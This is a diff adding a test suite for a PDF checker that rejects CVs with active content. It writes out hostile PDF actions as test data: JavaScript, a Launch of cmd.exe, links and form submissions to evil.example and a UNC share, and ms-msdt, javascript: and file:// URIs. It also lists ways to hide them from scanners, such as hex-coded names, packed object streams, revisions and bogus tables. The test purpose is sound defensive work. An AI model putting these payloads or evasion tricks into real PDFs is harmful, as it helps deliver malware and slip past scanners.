@@ -1,0 +1,405 @@
+import { readdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { deflateSync } from 'node:zlib'
+import { getDocumentProxy } from 'unpdf'
+import { describe, expect, test } from 'vitest'
+import { expectCpuBelow } from '../../../../test/cpu-time.ts'
+import { carriedProblem } from './pdf-problem.ts'
+
+const problemOf = (bytes: Buffer): string | undefined => {
+  const problem = carriedProblem(bytes)
+  return problem && `${problem.what} ${problem.remedy}`
+}
+
+/** Objects by their numbers: the text of each. 1 is the catalog, 3 the page. */
+type Objects = Record<number, string>
+const stream = (dictionary: string, body: string): string =>
+  `<< ${dictionary} /Length ${body.length} >>\nstream\n${body}\nendstream`
+
+/** A file of these objects with a table of their places; `changed`: a later revision of some of them. */
+function buildPdf(objects: Objects, changed?: Objects): Buffer {
+  let text = '%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n'
+  let table = 0
+  for (const [at, revision] of [objects, changed].entries()) {
+    if (revision === undefined) continue
+    const places = Object.entries(revision).map(([number, object]) => {
+      const place = text.length
+      text += `${number} 0 obj\n${object}\nendobj\n`
+      return `${number} 1\n${String(place).padStart(10, '0')} 00000 n \n`
+    })
+    const begins = text.length
+    text += `xref\n0 1\n0000000000 65535 f \n${places.join('')}trailer\n<< /Size 40 /Root 1 0 R${at === 0 ? '' : ` /Prev ${table}`} >>\nstartxref\n${begins}\n%%EOF\n`
+    table = begins
+  }
+  return Buffer.from(text, 'latin1')
+}
+
+const ROW = 6
+const row = (kind: number, first: number, second: number): Buffer => {
+  const bytes = Buffer.alloc(ROW)
+  bytes.writeUInt8(kind)
+  bytes.writeUInt32BE(first, 1)
+  bytes.writeUInt8(second, 5)
+  return bytes
+}
+/** The same with every object packed, and a packed table. */
+function buildPacked(objects: Objects): Buffer {
+  const numbers = Object.keys(objects).map(Number)
+  const texts = numbers.map((number) => objects[number] ?? '')
+  const places = texts.map((_, at) => texts.slice(0, at).join('\n').length + (at === 0 ? 0 : 1))
+  const list = `${numbers.map((number, at) => `${number} ${places[at]}`).join(' ')} `
+  const body = deflateSync(Buffer.from(list + texts.join('\n'), 'latin1')).toString('latin1')
+  const head = '%PDF-1.7\n'
+  const pack = `30 0 obj\n${stream(`/Type /ObjStm /N ${numbers.length} /First ${list.length} /Filter /FlateDecode`, body)}\nendobj\n`
+  const rows = Array.from({ length: 32 }, (_, number) => {
+    if (number === 30) return row(1, head.length, 0)
+    if (number === 31) return row(1, head.length + pack.length, 0)
+    return numbers.includes(number) ? row(2, 30, numbers.indexOf(number)) : row(0, 0, 0)
+  })
+  const packedRows = deflateSync(Buffer.concat(rows)).toString('latin1')
+  const table = `31 0 obj\n${stream('/Type /XRef /Size 32 /W [1 4 1] /Root 1 0 R /Filter /FlateDecode', packedRows)}\nendobj\n`
+  return Buffer.from(`${head}${pack}${table}startxref\n${head.length + pack.length}\n%%EOF\n`, 'latin1')
+}
+
+type Parts = { catalog?: string; page?: string; further?: Objects }
+const harmless = ({ catalog = '', page = '', further = {} }: Parts = {}): Objects => ({
+  1: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
+  2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+  3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> ${page} >>`,
+  4: stream('', 'BT /F 12 Tf 20 100 Td (Java/JavaScript, /JS, /Launch) Tj ET'),
+  5: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+  ...further,
+})
+
+const annotation = (entries: string): Parts => ({
+  page: '/Annots [6 0 R]',
+  further: { 6: `<< /Type /Annot /Rect [0 0 9 9] ${entries} >>` },
+})
+const field = (entries: string): Parts => ({
+  catalog: '/AcroForm << /Fields [6 0 R] >>',
+  page: '/Annots [6 0 R]',
+  further: { 6: `<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] ${entries} >>` },
+})
+const HERE = '/S /GoTo /D [3 0 R /Fit]'
+/** Where an action can stand. */
+const PLACES: Record<string, (action: string) => Parts> = {
+  'when the file is opened': (action) => ({ catalog: `/OpenAction ${action}` }),
+  'when the file is opened, by reference': (action) => ({ catalog: '/OpenAction 7 0 R', further: { 7: action } }),
+  'when the file is closed': (action) => ({ catalog: `/AA << /WC ${action} >>` }),
+  'when a page is opened': (action) => ({ page: `/AA << /O ${action} >>` }),
+  'behind a link': (action) => annotation(`/Subtype /Link /A ${action}`),
+  'behind a link without a type': (action) => ({
+    page: '/Annots 8 0 R',
+    further: { 6: `<< /Subtype /Link /Rect [0 0 9 9] /A 7 0 R >>`, 7: action, 8: '[6 0 R]' },
+  }),
+  'behind a link of another time': (action) => annotation(`/Subtype /Link /Dest [3 0 R /Fit] /PA ${action}`),
+  'where the mouse passes': (action) => annotation(`/Subtype /Link /AA << /E ${action} >>`),
+  'behind a button': (action) => field(`/A ${action}`),
+  'when a field is left': (action) => field(`/AA << /Bl 7 0 R >>`.replace('7 0 R', action)),
+  'behind a chapter': (action) => ({
+    catalog: '/Outlines 6 0 R',
+    further: { 6: '<< /First 7 0 R /Last 7 0 R /Count 1 >>', 7: `<< /Title (a) /Parent 6 0 R /A ${action} >>` },
+  }),
+  'after another': (action) => annotation(`/Subtype /Link /A << ${HERE} /Next ${action} >>`),
+  'after two others': (action) =>
+    annotation(`/Subtype /Link /A << ${HERE} /Next [<< ${HERE} >> << ${HERE} /Next [${action}] >>] >>`),
+  'where nothing leads to it': (action) => ({ further: { 9: action.replace('<<', '<< /Type /Action') } }),
+}
+const EVIL = '(\\\\\\\\evil.example\\\\x)'
+/** Actions that no CV has, and what is said of them. */
+const ACTIONS: Record<string, string> = {
+  '/S /JavaScript /JS (app.alert\\(1\\))': 'a script',
+  '/S /Launch /F (cmd.exe)': 'an action that starts a program|a reference to another file',
+  '/S /Launch /Win << /P (x) >>': 'an action that starts a program',
+  [`/S /GoToR /F ${EVIL} /D [0 /Fit]`]: 'a link into another file|a reference to another file',
+  '/S /GoToR /F << /Type /Filespec /UF (x.pdf) >> /D (a)': 'a link into another file|a reference to another file',
+  '/S /GoToE /D (a) /T << /R /C /N (x) >>': 'a link into an attached file',
+  '/S /SubmitForm /F << /FS /URL /F (https://evil.example) >>': 'a form that is sent somewhere|a reference to another file',
+  '/S /ImportData /F (x.fdf)': 'an action that loads another file|a reference to another file',
+  '/S /ResetForm': 'an action of a form',
+  '/S /Rendition /OP 0': 'an action that plays a recording',
+  '/S /Movie /Operation /Play': 'an action that plays a recording',
+  '/S /RichMediaExecute /CMD << /C (x) >>': 'an action that plays a recording',
+  '/S /SetOCGState /State [/ON]': 'an action of the kind “SetOCGState”',
+  '/S /Hide /T (a)': 'an action of the kind “Hide”',
+  '/S /Thread /D 0': 'an action of the kind “Thread”',
+  '/S /Tomorrow /X (a kind that does not exist yet)': 'an action of the kind “Tomorrow”',
+  '/S /Named /N /Print': 'a link that runs a command|by itself',
+  '/S /URI /URI (file:///C:/Windows/System32/calc.exe)': 'neither a web page nor an email|by itself',
+  [`/S /URI /URI ${EVIL}`]: 'neither a web page nor an email|by itself',
+  '/S /URI /URI (//evil.example/share)': 'neither a web page nor an email|by itself',
+  '/S /URI /URI (java\\\nscript:alert\\(1\\))': 'neither a web page nor an email|by itself',
+  '/S /URI /URI <FEFF006A006100760061007300630072006900700074003A0031>': 'neither a web page nor an email|by itself',
+  '/S /URI /URI (data:text/html,x)': 'neither a web page nor an email|by itself',
+  '/S /URI /URI (ms-msdt:/id)': 'neither a web page nor an email|by itself',
+  '/S /GoTo /S /JavaScript /JS (x)': 'a script',
+  '/S /JavaScript /S /GoTo /D [3 0 R /Fit]': 'a script',
+}
+
+const inCodes = (text: string): string =>
+  text.replaceAll(
+    /\/([A-Za-z]+)/g,
+    (_, name: string) => `/${Array.from(name, (letter) => `#${letter.charCodeAt(0).toString(16)}`).join('')}`,
+  )
+/** A reference instead of every S. */
+const byReference = (objects: Objects): Objects => {
+  const further: Objects = {}
+  const text = JSON.stringify(objects).replaceAll(/\/S (\/[A-Za-z]+)/g, (_, kind: string) => {
+    const number = 10 + Object.keys(further).length
+    further[number] = kind
+    return `/S ${number} 0 R`
+  })
+  return { ...(JSON.parse(text) as Objects), ...further }
+}
+/** How a file can hide what is in it. */
+const DISGUISES: Record<string, (parts: Parts) => Buffer> = {
+  plainly: (parts) => buildPdf(harmless(parts)),
+  'names in codes': (parts) =>
+    buildPdf(
+      Object.fromEntries(
+        Object.entries(harmless(parts)).map(([number, text]) => [number, text.includes('stream') ? text : inCodes(text)]),
+      ),
+    ),
+  'kinds by reference': (parts) => buildPdf(byReference(harmless(parts))),
+  'packed objects': (parts) => buildPacked(objectsWithoutStreams(harmless(parts))),
+  'a later revision': (parts) => buildPdf(harmless(), harmless(parts)),
+  'an earlier revision': (parts) => buildPdf(harmless(parts), harmless()),
+  'comments between all words': (parts) =>
+    Buffer.from(
+      buildPdf(harmless(parts))
+        .toString('latin1')
+        .replaceAll(/(?<=<<) | (?=>>)/g, ' %>> endobj\n'),
+      'latin1',
+    ),
+  'no table': (parts) =>
+    Buffer.from(
+      buildPdf(harmless(parts))
+        .toString('latin1')
+        .replaceAll(/\d{10} \d{5} n/g, '0000000007 00000 n'),
+      'latin1',
+    ),
+  'objects within a picture': (parts) => {
+    const { 1: catalog = '', ...rest } = harmless(parts)
+    const hidden = Object.entries({ ...rest, 1: catalog })
+      .map(([number, text]) => `${number} 0 obj\n${text}\nendobj`)
+      .join('\n')
+      .replaceAll('endstream', 'end')
+    return buildPdf({ ...harmless(), 20: stream('/Type /XObject /Subtype /Image', hidden) })
+  },
+  'objects within a text': (parts) =>
+    buildPdf({
+      ...harmless(),
+      20: `(${Object.entries(harmless(parts))
+        .map(([number, text]) => `${number} 0 obj ${text} endobj`)
+        .join(' ')})`,
+    }),
+  'old Mac lines': (parts) =>
+    Buffer.from(
+      buildPdf(objectsWithoutStreams(harmless(parts)))
+        .toString('latin1')
+        .replaceAll('\n', '\r'),
+      'latin1',
+    ),
+}
+const WITHOUT_STREAMS = ['packed objects', 'old Mac lines']
+const objectsWithoutStreams = (objects: Objects): Objects =>
+  Object.fromEntries(Object.entries(objects).map(([number, text]) => [number, text.includes('stream') ? 'null' : text]))
+
+describe.each(Object.entries(PLACES))('an action %s', (_, place) => {
+  test.each(Object.entries(DISGUISES))('is found by %s, and said', (_, build) => {
+    for (const [action, what] of Object.entries(ACTIONS)) {
+      const problem = problemOf(build(place(`<< ${action} >>`)))
+      expect(problem, action).toMatch(
+        new RegExp(`^This PDF contains .*(${what}|by itself).* Print it to a new PDF and choose that one\\.$`),
+      )
+    }
+  })
+})
+
+test.each([
+  [
+    'scripts by name',
+    {
+      catalog: '/Names << /JavaScript << /Names [(a) 7 0 R] >> >>',
+      further: { 7: '<< /S /JavaScript /JS 8 0 R >>', 8: stream('', 'x') },
+    },
+    'a script',
+  ],
+  [
+    'attached files by name',
+    { catalog: '/Names 7 0 R', further: { 7: '<< /EmbeddedFiles << /Names [] >> >>' } },
+    'attached files',
+  ],
+  ['recordings by name', { catalog: '/Names << /Renditions << /Names [] >> >>' }, 'a list of names of the kind “Renditions”'],
+  ['a file at a page', annotation('/Subtype /FileAttachment /FS 7 0 R'), 'an attached file'],
+  ['rich media', annotation('/Subtype /RichMedia'), 'something other than text, pictures and links (“RichMedia”)'],
+  ['a model', annotation('/Subtype /3D /3DD 7 0 R'), 'something other than text, pictures and links (“3D”)'],
+  ['a screen', annotation('/Subtype /Screen'), 'something other than text, pictures and links (“Screen”)'],
+  [
+    'a mark of a kind that does not exist yet',
+    annotation('/Subtype /Hologram'),
+    'something other than text, pictures and links (“Hologram”)',
+  ],
+  [
+    'a file',
+    { further: { 7: '<< /Type /Filespec /EF << /F 8 0 R >> >>', 8: stream('/Type /EmbeddedFile', 'x') } },
+    'an attached file',
+  ],
+  ['an associated file', { catalog: '/AF [<< /UF (x.exe) /EF << /F 8 0 R >> >>]' }, 'a reference to another file'],
+  ['a stream that lies elsewhere', { further: { 7: stream('/F (https://evil.example/x)', '') } }, 'a reference to another file'],
+  [
+    'a picture that lies elsewhere',
+    { further: { 7: stream('/Type /XObject /OPI << /2.0 << /F << /F (x.tif) >> >> >>', '') } },
+    'a reference to another file',
+  ],
+  [
+    'a page of another file',
+    { further: { 7: stream('/Subtype /Form /Ref << /F << /F (x.pdf) >> /Page 0 >>', '') } },
+    'a reference to another file',
+  ],
+  [
+    'a form of XML',
+    { catalog: '/AcroForm << /XFA [(a) 7 0 R] >>', further: { 7: stream('', 'x') } },
+    'a form of the kind XFA, which can run scripts',
+  ],
+  ['a portfolio', { catalog: '/Collection << /View /D >>' }, 'attached files'],
+  [
+    'a base of its links',
+    { catalog: '/URI << /Base (file:///) >>' },
+    'a link that opens neither a web page nor an email (file:///)',
+  ],
+] satisfies [string, Parts, string][])('%s is refused, however it is written', (_, parts: Parts, what) => {
+  for (const [how, build] of Object.entries(DISGUISES)) {
+    // Some have no streams, in which the file lies.
+    if (Object.values(parts.further ?? {}).some((text) => text.includes('stream')) && WITHOUT_STREAMS.includes(how)) continue
+    const problem = problemOf(build(parts))
+    expect(problem ?? 'nothing', how).toMatch(/^This PDF contains /)
+    if (how === 'plainly') expect(problem).toContain(`This PDF contains ${what}. `)
+  }
+})
+
+const PACKED = 'This PDF is packed in a way that hides what is in it. Print it to a new PDF and choose that one.'
+const DAMAGED = 'This PDF is damaged, so what is in it can’t be checked. Print it to a new PDF and choose that one.'
+const LARGE =
+  'This PDF has far more parts than a CV, so it was not checked to its end. Print it to a new PDF and choose that one.'
+const LOCKED = 'This PDF is password-protected. Save it without a password.'
+const withObject = (text: string): Buffer => buildPdf({ ...harmless(), 20: text })
+const pack = (text: string, entries = '/N 1 /First 4 /Filter /FlateDecode'): string =>
+  stream(entries, deflateSync(Buffer.from(text, 'latin1')).toString('latin1'))
+const SCRIPT = '9 0 << /S /JavaScript /JS (x) >>'
+const MB = 1024 * 1024
+test.each([
+  ['packed objects that say nothing of it', withObject(pack(SCRIPT)), 'script'],
+  ['packed objects whose list leads elsewhere', withObject(pack(`9 9 (hidden: << /S /Launch >>)`)), 'starts a program'],
+  ['objects that are not packed', withObject(stream('/N 1 /First 4', SCRIPT)), 'script'],
+  ['objects behind a false end', withObject(stream('/N 1 /First 4', `9 0 null endstream ${SCRIPT}`)), DAMAGED],
+  [
+    'objects packed in another way',
+    withObject(stream('/N 1 /First 4 /Filter /ASCIIHexDecode', Buffer.from(SCRIPT).toString('hex'))),
+    PACKED,
+  ],
+  ['objects packed twice', withObject(pack(SCRIPT, '/N 1 /First 4 /Filter [/FlateDecode /FlateDecode]')), PACKED],
+  ['objects packed by a reference', withObject(pack(SCRIPT, '/N 1 /First 4 /Filter 7 0 R')), PACKED],
+  [
+    'objects packed with parameters',
+    withObject(pack(SCRIPT, '/N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>')),
+    PACKED,
+  ],
+  ['two places of the first object', withObject(pack(SCRIPT, '/N 1 /First 4 /First 20 /Filter /FlateDecode')), PACKED],
+  ['damaged packed objects', withObject(stream('/N 1 /First 4 /Filter /FlateDecode', 'x\u009c...')), DAMAGED],
+  ['an object that does not end', withObject('<< /A << /S '), DAMAGED],
+  ['a text that does not end', Buffer.concat([buildPdf(harmless()), Buffer.from('8 0 obj (a')]), DAMAGED],
+  ['a password', Buffer.from(buildPdf(harmless()).toString('latin1').replace('/Root', '/Encrypt 7 0 R /Root'), 'latin1'), LOCKED],
+  [
+    'a password in codes',
+    Buffer.from(buildPdf(harmless()).toString('latin1').replace('/Root', '/#45ncrypt 7 0 R /Root'), 'latin1'),
+    LOCKED,
+  ],
+  [
+    'a password of a packed table',
+    Buffer.from(
+      buildPacked(objectsWithoutStreams(harmless()))
+        .toString('latin1')
+        .replace(/x\u009c/, 'xx')
+        .replace('/Root', '/Encrypt << >> /Root'),
+      'latin1',
+    ),
+    LOCKED,
+  ],
+  ['objects that unpack to much', withObject(pack(`9 0 ${' '.repeat(33 * MB)}`)), LARGE],
+  [
+    'many that unpack to much',
+    buildPdf(Object.fromEntries(Array.from({ length: 60 }, (_, at) => [at + 1, pack(`9 0 ${' '.repeat(MB)}`)]))),
+    LARGE,
+  ],
+  ['lists in lists', withObject('['.repeat(500_000)), LARGE],
+  ['texts that do not end', withObject(`<< >> stream\n${'1 0 obj ('.repeat(400_000)}`), LARGE],
+  ['words that begin objects', Buffer.from(`%PDF-1.7\n${'obj '.repeat(1_200_000)}`), LARGE],
+  ['comments', withObject('%\n'.repeat(2_400_000)), undefined],
+  ['streams without an end', withObject('<< >> stream\n'.repeat(350_000)), undefined],
+  ['names in codes', withObject(`[${'/#41'.repeat(1_200_000)}]`), undefined],
+])('%s: judged within seconds', async (_, bytes, problem) => {
+  await expectCpuBelow(6_000, () => {
+    const found = problemOf(bytes)
+    if (problem === undefined) expect(found).toBeUndefined()
+    else expect(found).toContain(problem)
+  })
+})
+
+const FOLDER = join(import.meta.dirname, 'harmless')
+const programs = readdirSync(FOLDER)
+test.each(programs)('what %s of a real program has is no problem', async (name) => {
+  const bytes = readFileSync(join(FOLDER, name))
+  expect(problemOf(bytes)).toBeUndefined()
+  expect((await getDocumentProxy(new Uint8Array(bytes))).numPages).toBeGreaterThan(0)
+})
+
+const HARMLESS: Record<string, Parts> = {
+  nothing: {},
+  'a place to open at': { catalog: '/OpenAction [3 0 R /Fit]' },
+  'an action that opens at a place': { catalog: `/OpenAction << ${HERE} >>` },
+  ...Object.fromEntries(
+    [
+      'https://example.com/a?b=c',
+      'HTTP://example.com',
+      'mailto:asha@example.com',
+      'tel:+919876543210',
+      'www.example.com',
+      'linkedin.com/in/asha',
+      '#work',
+      'asha@example.com',
+    ].map((address) => [`a link to ${address}`, annotation(`/Subtype /Link /A << /S /URI /URI (${address}) >>`)]),
+  ),
+  'a link to the next page': annotation('/Subtype /Link /A << /S /Named /N /NextPage >>'),
+  'a link to a place, then an address': annotation(
+    `/Subtype /Link /A << ${HERE} /Next << /S /URI /URI (https://example.com) >> >>`,
+  ),
+  'a note and a mark': annotation('/Subtype /Highlight /F 4 /Contents (/JavaScript)'),
+  'a field': field('/V (typed) /F 4'),
+  'a button that does nothing': field('/AA << >>'),
+  chapters: {
+    catalog: '/Outlines 6 0 R /Names << /Dests << /Names [(a) << /D [3 0 R /Fit] >>] >> >>',
+    further: {
+      6: '<< /First 7 0 R /Last 8 0 R /Count 2 >>',
+      7: '<< /Title (Java/JavaScript) /Next 8 0 R /Dest (a) >>',
+      8: '<< /Title (b) /Prev 7 0 R /A << /S /GoTo /D (a) >> >>',
+    },
+  },
+  'the structure of a text': {
+    catalog: '/StructTreeRoot << /K 6 0 R /RoleMap << /A /Span /JS2 /P >> >>',
+    further: {
+      6: '<< /Type /StructElem /S /Sect /A [<< /O /Layout /Placement /Block >> 0] /K [7 0 R] >>',
+      7: '<< /S /Link /P 6 0 R /Pg 3 0 R >>',
+    },
+  },
+  'a transparent group': { page: '/Group << /S /Transparency /CS /DeviceRGB >> /Trans << /S /Wipe >>' },
+}
+describe.each(Object.entries(HARMLESS))('a PDF with %s', (_, parts) => {
+  test.each(Object.entries(DISGUISES))('is taken, written by %s', (_, build) => {
+    expect(problemOf(build(parts))).toBeUndefined()
+  })
+})
+
+test.each(Object.entries(DISGUISES))('a PDF written by %s is one that a reader opens', async (_, build) => {
+  expect((await getDocumentProxy(new Uint8Array(build(HARMLESS['chapters'] ?? {})))).numPages).toBe(1)
+})
